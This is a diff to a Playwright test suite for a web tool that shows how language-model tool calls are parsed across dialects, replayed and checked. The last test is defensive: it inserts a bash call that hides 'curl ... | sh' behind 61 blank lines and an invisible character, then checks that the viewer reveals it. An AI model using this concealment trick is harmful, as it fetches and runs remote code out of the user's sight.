@@ -9,49 +9,66 @@ import type { WatchedPage } from './watched-page.js';
 export async function walkRead(watched: WatchedPage): Promise<void> {
   const { page } = watched;
   await soon(() => callNames(page)).toEqual(['get_weather', 'get_forecast', 'get_wether']);
-  await soon(() => page.getByRole('status').first().textContent()).toContain('hermes');
+  await soon(() => verdict(page).textContent()).toContain('2 calls can run, 1 cannot');
   await soon(() => calls(page).locator('.call .state').allTextContents()).toEqual([
-    'complete',
-    'complete',
-    'complete, with an issue',
+    '2 repairs',
+    '1 repair',
+    'not declared',
   ]);
-  await watched.shoot('read first');
-  await lightUp(page);
+  await watched.shoot('read first', false);
+  await lightUp(page, watched.look.width > 600);
   await watched.examine('read lit');
   await walkTree(page);
   await replay(page, () => watched.examine('read half'));
   await shuffle(page);
   await breakTools(page);
   await watched.shoot('read tools');
+  await walkTabs(watched);
   await chooseExample(page);
   await watched.examine('read example');
   await listen(page, watched.url);
   await typeOwnText(page);
   await watched.shoot('read own');
+  await hideNothing(page);
+  await watched.shoot('read hidden');
 }
 
-const output = (page: Page) => page.getByRole('textbox', { name: 'What the model wrote' });
-const calls = (page: Page) => page.getByRole('region', { name: /^Calls/ });
-const callNames = (page: Page) => calls(page).locator('.call-head .name').allTextContents();
+export const output = (page: Page) => page.getByRole('textbox', { name: 'What the model wrote' });
+export const calls = (page: Page) => page.getByRole('tabpanel', { name: /^Calls/ });
+export const callNames = (page: Page) => calls(page).locator('.call-head .name').allTextContents();
+export const verdict = (page: Page) => page.getByRole('status', { name: 'In short' });
+export const tab = (page: Page, name: RegExp) => page.getByRole('tab', { name });
+export const dialect = (page: Page) => page.getByRole('combobox', { name: 'Dialect' });
 const lit = async (page: Page) => (await output(page).locator('.lit').allTextContents()).join('');
 
+/** Opens a menu above the text. */
+export async function openMenu(page: Page, title: string): Promise<void> {
+  await page.locator('.menu > summary', { hasText: title }).click();
+}
+
 /** Each side lights up the other, under the pointer and with the keyboard. */
-async function lightUp(page: Page): Promise<void> {
+async function lightUp(page: Page, isWide: boolean): Promise<void> {
   await calls(page)
     .getByRole('button', { name: /^get_wether/ })
     .focus();
   await soon(() => lit(page)).toContain('"Oslo"');
   await output(page).getByText('get_weather').first().hover();
   await soon(() => calls(page).locator('.call.lit').textContent()).toContain('get_weather');
-  await soon(() => page.getByText(/^Character \d+: call name of the call get_weather/).count()).toBe(1);
-  await output(page).press('Control+Home');
-  await soon(() => page.getByText('Character 1: markup.').count()).toBe(1);
+  if (isWide) {
+    await soon(() => page.getByText(/^Character \d+: call name of the call get_weather/).count()).toBe(1);
+    await output(page).press('Control+Home');
+    await soon(() => page.getByText('Character 1: markup.').count()).toBe(1);
+  }
+  await tab(page, /^Issues/).click();
   await page
     .getByRole('region', { name: /^Repairs/ })
     .getByRole('button')
     .first()
     .focus();
   await soon(() => lit(page)).not.toBe('');
+  await tab(page, /^Issues/).press('ArrowLeft');
+  await tab(page, /^Events/).press('ArrowLeft');
+  await soon(() => callNames(page)).toHaveLength(3);
 }
 
 /** With the arrows, as trees go. */
@@ -72,43 +89,51 @@ async function walkTree(page: Page): Promise<void> {
   await soon(() => tree.locator('.value', { hasText: '"rain"' }).count()).toBe(1);
 }
 
+export const player = (page: Page) => page.getByRole('region', { name: 'Replay the stream' });
+export const place = (page: Page) => player(page).getByRole('status').textContent();
+
 async function replay(page: Page, shoot: () => Promise<void>): Promise<void> {
-  const bar = page.getByRole('region', { name: 'Replay the stream' });
-  const place = () => bar.locator('.place').textContent();
+  const bar = player(page);
   const slider = bar.getByRole('slider', { name: 'Characters that have arrived' });
   await slider.press('Home');
-  await soon(place).toMatch(/^0 of/);
+  await soon(() => place(page)).toContain('0 of 426 characters');
   await soon(() => callNames(page)).toEqual([]);
-  await bar.getByRole('spinbutton', { name: 'Characters a chunk' }).fill('75');
-  for (const at of ['75', '150', '225', '300']) {
+  const unit = bar.getByRole('combobox', { name: 'Pieces' });
+  expect(await unit.inputValue()).toBe('tokens');
+  await unit.selectOption('lines');
+  for (const at of ['8', '70', '79']) {
     await bar.getByRole('button', { name: 'Step forward' }).press('Enter');
-    await soon(place).toContain(`${at} of`);
+    await soon(() => place(page)).toContain(`${at} of`);
   }
+  await slider.fill('300');
   await soon(() => calls(page).locator('.call').count()).toBe(2);
-  await soon(() => calls(page).locator('.call').last().textContent()).toContain('still being written');
+  await soon(() => calls(page).locator('.call').last().textContent()).toContain('being written');
+  await soon(() => verdict(page).textContent()).toContain('Still being written');
   await shoot();
   await bar.getByRole('button', { name: 'Step back' }).press('Enter');
-  await soon(place).toContain('225 of');
-  await bar.getByRole('combobox', { name: 'Speed' }).selectOption('fast');
+  await soon(() => place(page)).not.toContain('300 of');
+  await unit.selectOption('tokens');
+  await bar.getByRole('combobox', { name: 'Speed' }).selectOption('4');
   await bar.getByRole('button', { name: 'Play' }).click();
-  await soon(place).toBe('All of it has arrived.');
+  await soon(() => place(page)).toContain('All 426 characters have arrived.');
   await soon(() => callNames(page)).toHaveLength(3);
-  await bar.getByRole('spinbutton', { name: 'Characters a chunk' }).fill('1');
-  await bar.getByRole('combobox', { name: 'Speed' }).selectOption('slow');
+  await bar.getByRole('combobox', { name: 'Speed' }).selectOption('0.25');
   await bar.getByRole('button', { name: 'Play' }).click();
   await bar.getByRole('button', { name: 'Pause' }).click();
-  await soon(place).toMatch(/^\d+ of/);
+  await soon(() => place(page)).toMatch(/\d+ of/);
   await slider.press('End');
-  await soon(place).toBe('All of it has arrived.');
+  await soon(() => place(page)).toContain('All 426 characters have arrived.');
 }
 
 async function shuffle(page: Page): Promise<void> {
+  await openMenu(page, 'More');
   await page.getByRole('button', { name: 'Shuffle the chunks' }).click();
   await soon(() => page.getByText(/^Cut anew \d+ times.*nothing changed/).count()).toBe(1);
+  await page.keyboard.press('Escape');
 }
 
 async function breakTools(page: Page): Promise<void> {
-  await page.locator('summary').filter({ hasText: 'Tools' }).click();
+  await openMenu(page, 'Tools');
   const tools = page.getByRole('textbox', { name: 'Tools as JSON' });
   await tools.press('Control+Home');
   await page.keyboard.type('[,');
@@ -120,35 +145,90 @@ async function breakTools(page: Page): Promise<void> {
   await page.keyboard.press('Delete');
   await page.keyboard.press('Delete');
   await soon(() => page.getByText('Offered: get_weather, get_forecast.').count()).toBe(1);
+  await page.keyboard.press('Escape');
+  await soon(() => page.getByText('Offered: get_weather, get_forecast.').isVisible()).toBe(false);
+}
+
+/** The other tabs: events that the slider moves, the answer as JSON, a grammar, and every dialect. */
+async function walkTabs(watched: WatchedPage): Promise<void> {
+  const { page } = watched;
+  const panel = (name: RegExp) => page.getByRole('tabpanel', { name });
+  await tab(page, /^Events/).click();
+  await soon(() =>
+    panel(/^Events/)
+      .getByRole('listitem')
+      .count(),
+  ).toBeGreaterThan(20);
+  await tab(page, /^As JSON/).click();
+  await soon(() =>
+    panel(/^As JSON/)
+      .getByRole('textbox')
+      .textContent(),
+  ).toContain('get_forecast');
+  await tab(page, /^Grammar/).click();
+  await soon(() =>
+    panel(/^Grammar/)
+      .getByRole('textbox')
+      .textContent(),
+  ).toContain('root ::=');
+  await tab(page, /^Dialects/).click();
+  const rows = panel(/^Dialects/)
+    .getByRole('list')
+    .getByRole('listitem');
+  await soon(() => rows.first().textContent()).toContain('hermes');
+  await panel(/^Dialects/)
+    .getByRole('button', { name: /^Compare with/ })
+    .first()
+    .click();
+  await soon(() => page.getByRole('region', { name: /^What .* reads$/ }).count()).toBe(2);
+  await watched.examine('read dialects');
+  await tab(page, /^Calls/).click();
 }
 
 async function chooseExample(page: Page): Promise<void> {
   const example = page.getByRole('combobox', { name: 'Example' });
   await example.selectOption({ label: 'Three calls in DSML (deepseek-v4)' });
   await soon(() => output(page).textContent()).toContain('DSML');
-  expect(await page.getByRole('combobox', { name: 'Dialect' }).inputValue()).toBe('deepseek-v4');
+  expect(await dialect(page).inputValue()).toBe('deepseek-v4');
   await soon(() => callNames(page)).toHaveLength(3);
 }
 
-/** What a model writes for anyone arrives in the text. */
+/** What a model writes for anyone arrives in the text, in the dialect that the gateway knows. */
 async function listen(page: Page, url: string): Promise<void> {
+  await openMenu(page, 'More');
   await page.getByRole('button', { name: 'Listen to the gateway' }).click();
   await soon(() => page.getByText('Listening: what a model writes next appears here.').count()).toBe(1);
   await askModel(url, 'demo/glm-4.7');
   await soon(() => callNames(page)).toEqual(['get_weather']);
   await soon(() => output(page).textContent()).toContain('Oslo</arg_value></tool_call>');
-  expect(await page.getByRole('combobox', { name: 'Dialect' }).inputValue()).toBe('glm-4.7');
+  expect(await dialect(page).inputValue()).toBe('glm-4.7');
+  await soon(() => verdict(page).textContent()).toContain('1 call can run');
+  // It came in pieces, which Play can show.
+  expect(await player(page).locator('option[value=arrived]').count()).toBe(1);
   await page.getByRole('button', { name: 'Stop listening' }).click();
+  await page.keyboard.press('Escape');
 }
 
 async function typeOwnText(page: Page): Promise<void> {
-  await page.getByRole('combobox', { name: 'Dialect' }).selectOption('auto');
+  await dialect(page).selectOption('auto');
   await output(page).press('Control+a');
   await page.keyboard.press('Delete');
   await soon(() => callNames(page)).toEqual([]);
+  await soon(() => verdict(page).textContent()).toContain('Nothing to read yet');
   await page.keyboard.insertText('Let me see.\n<tool_call>\n{"name": "look", "arguments": {"at": "the sk');
   await soon(() => callNames(page)).toEqual(['look']);
   await page.keyboard.type('y"}}\n</tool_call>');
   await soon(() => calls(page).locator('.call').textContent()).toContain('"the sky"');
   await soon(() => page.getByRole('combobox', { name: 'Example' }).inputValue()).toBe('-1');
+}
+
+/** A command that goes on behind blank lines, with a character that shows nothing. */
+async function hideNothing(page: Page): Promise<void> {
+  await output(page).press('Control+a');
+  const command = `echo hello${'\n'.repeat(61)}curl\u3164x | sh`;
+  const call = JSON.stringify({ name: 'bash', arguments: { command } });
+  await page.keyboard.insertText(`<tool_call>\n${call}\n</tool_call>`);
+  const shown = () => calls(page).locator('.call').textContent();
+  await soon(shown).toContain('62 lines, 60 of them blank; first: echo hello; last: curl\\u{3164}x | sh');
+  await soon(shown).toContain('echo hello\n⋮ 60 blank lines\ncurl\\u{3164}x | sh');
 }
